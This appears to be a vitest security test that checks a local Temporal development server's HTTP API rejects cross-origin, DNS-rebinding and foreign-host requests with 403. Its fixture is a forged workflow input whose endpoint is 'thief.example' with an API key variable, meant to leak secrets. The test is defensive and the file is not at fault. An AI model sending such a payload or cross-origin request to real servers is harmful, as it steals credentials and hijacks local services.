/**
 * Hunts a web page that starts workflows: browsers send `text/plain` to any port of this machine without a preflight,
 * and the development server has an HTTP API that cannot be switched off. Asserted: whatever host and origin a request
 * names, it starts and reads nothing. Not asserted: programs of this machine, which can use the server's gRPC port.
 */
import { Client, Connection } from '@temporalio/client';
import { mkdtempSync, rmSync } from 'node:fs';
import { type IncomingHttpHeaders, request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { choosePort } from '../../../stack/temporal-server/free-port.ts';
import { type PrivateServer, startPrivateServer } from '../../../stack/temporal-server/private-server.ts';

const dir = mkdtempSync(join(tmpdir(), 'longhaul-http-'));
let server: PrivateServer;
let port: number;

beforeAll(async () => {
  port = await choosePort([]);
  server = await startPrivateServer(dir, [`--http-port=${port}`]);
});
afterAll(async () => {
  await server?.stop();
  rmSync(dir, { recursive: true, force: true });
});

function send(
  at: number,
  method: string,
  path: string,
  headers: IncomingHttpHeaders,
  body = '',
): Promise<number | string> {
  return new Promise((resolve) => {
    const sent = request({ host: '127.0.0.1', port: at, method, path, headers }, (answer) => {
      answer.resume();
      answer.on('end', () => resolve(answer.statusCode ?? 0));
    });
    sent.on('error', (error) => resolve(String(error)));
    sent.end(body);
  });
}

const rollout = JSON.stringify({
  workflowType: { name: 'rollout' },
  taskQueue: { name: 'orchestrator' },
  input: [
    {
      task: 'swe-mini-held-out-0',
      policy: { endpoint: { baseUrl: 'https://thief.example/v1', model: 'm', apiKeyEnv: 'SECRET' } },
    },
  ],
});

it.each([
  ['a foreign page', { host: 'evil.example', origin: 'https://evil.example', 'content-type': 'text/plain' }],
  ['a page that names this machine', { origin: 'https://evil.example', 'content-type': 'text/plain' }],
  [
    'a name that was resolved anew',
    {
      host: 'rebound.evil.example:7243',
      origin: 'http://rebound.evil.example:7243',
      'content-type': 'application/json',
    },
  ],
  [
    'a page that has the reserved name',
    { host: 'closed.invalid', origin: 'http://closed.invalid', 'content-type': 'text/plain' },
  ],
  ['a page whose name begins as what is allowed', { host: 'closed', 'content-type': 'text/plain' }],
  ['a program of this machine', { 'content-type': 'application/json' }],
])('%s starts no workflow by the HTTP API, and reads none', async (_who, headers) => {
  const paths = ['/api/v1/namespaces/default/workflows/stolen', '/namespaces/default/workflows/stolen'];
  for (const path of paths) expect(await send(port, 'POST', path, headers, rollout)).toBe(403);
  expect(await send(port, 'GET', '/api/v1/namespaces/default/workflows', headers)).toBe(403);
  const nexus = '/namespaces/default/task-queues/orchestrator/nexus-services/s/o';
  expect([403, 404]).toContain(await send(port, 'POST', nexus, headers, rollout));
  const grpc = Number(server.address.split(':')[1]);
  expect(await send(grpc, 'POST', paths[0]!, headers, rollout)).not.toBe(200);
  const connection = await Connection.connect({ address: server.address });
  await expect(new Client({ connection }).workflow.getHandle('stolen').describe()).rejects.toMatchObject({
    name: 'WorkflowNotFoundError',
  });
  await connection.close();
});
